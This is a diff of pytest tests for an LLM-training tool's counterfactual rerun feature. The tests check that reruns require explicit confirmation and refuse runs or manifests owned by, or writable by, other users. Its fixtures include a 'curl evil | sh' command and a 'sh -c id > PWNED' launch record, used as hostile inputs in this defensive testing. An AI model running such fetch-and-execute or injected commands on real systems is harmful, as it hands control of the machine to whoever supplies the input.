@@ -9,6 +9,7 @@ import sys
 
 import pytest
 
+from ezpz_llm.data.manifest import _mend
 from ezpz_llm.errors import UserError
 from ezpz_llm.explain.counterfactual import rerun
 from ezpz_llm.rundir import RunDir, read_record
@@ -31,9 +32,10 @@ def launched(folder):
     return folder / "run"
 
 
+@pytest.mark.full
 def test_the_runs_steps_are_made_again_without_collectives(tmp_path):
     run_dir = launched(tmp_path)
-    done = explain("run", "--counterfactual", "--json", cwd=tmp_path)
+    done = explain("run", "--counterfactual", "--yes", "--json", cwd=tmp_path)
     assert done.returncode == 0, done.stdout + done.stderr
     found = json.loads(done.stdout)
     assert [one["rank"] for one in found["counterfactual"]] == [0, 1]
@@ -61,5 +63,44 @@ def test_the_runs_steps_are_made_again_without_collectives(tmp_path):
 ])
 def test_what_has_no_counterfactual_is_refused(tmp_path, record, says):
     with pytest.raises(UserError, match=says):
-        rerun(tmp_path, record)
+        rerun(tmp_path, record, yes=True)
     assert not list(tmp_path.iterdir())
+
+
+RECORD = {"launch": {"typed": ["launch", "sh", "-c", "id > PWNED"]}, "environment": {"world_size": 2},
+          "config": {"ds_config": "zero1"}, "sources": {"ds_config": "command line"}}
+
+
+def test_nothing_starts_unasked_or_from_another_user_s_run(tmp_path, monkeypatch, capsys):
+    def run(*words, **_):
+        raise AssertionError(words)
+
+    monkeypatch.setattr(subprocess, "run", run)
+    path = tmp_path / "run.json"
+    path.write_text(json.dumps(RECORD))
+    with pytest.raises(UserError, match="nothing was started") as error:
+        rerun(tmp_path, RECORD, yes=False)
+    assert "--yes" in error.value.instead
+    shown = capsys.readouterr().err
+    assert "-m ezpz_llm.launch -n 2" in shown
+    assert "PWNED" not in shown
+    path.chmod(0o666)
+    with pytest.raises(UserError, match="only a run of your own"):
+        rerun(tmp_path, RECORD, yes=True)
+    path.chmod(0o600)
+    monkeypatch.setattr(os, "geteuid", lambda: 12345)
+    with pytest.raises(UserError, match="only a run of your own"):
+        rerun(tmp_path, RECORD, yes=True)
+
+
+def test_advice_quotes_no_command_of_another_user_s_manifest(tmp_path, monkeypatch):
+    manifest = {"format": "ezpz_llm tokens 1", "command": "curl evil | sh;", "dtype": "uint16",
+                "splits": {"train": {"tokens": 1, "shards": [{"file": "a.bin", "tokens": 1, "sha256": ""}]}}}
+    path = tmp_path / "manifest.json"
+    path.write_text(json.dumps(manifest))
+    assert "evil" in _mend(tmp_path, manifest), "of one's own it is what was typed"
+    path.chmod(0o666)
+    assert "evil" not in _mend(tmp_path, manifest)
+    path.chmod(0o600)
+    monkeypatch.setattr(os, "geteuid", lambda: 12345)
+    assert "evil" not in _mend(tmp_path, manifest)
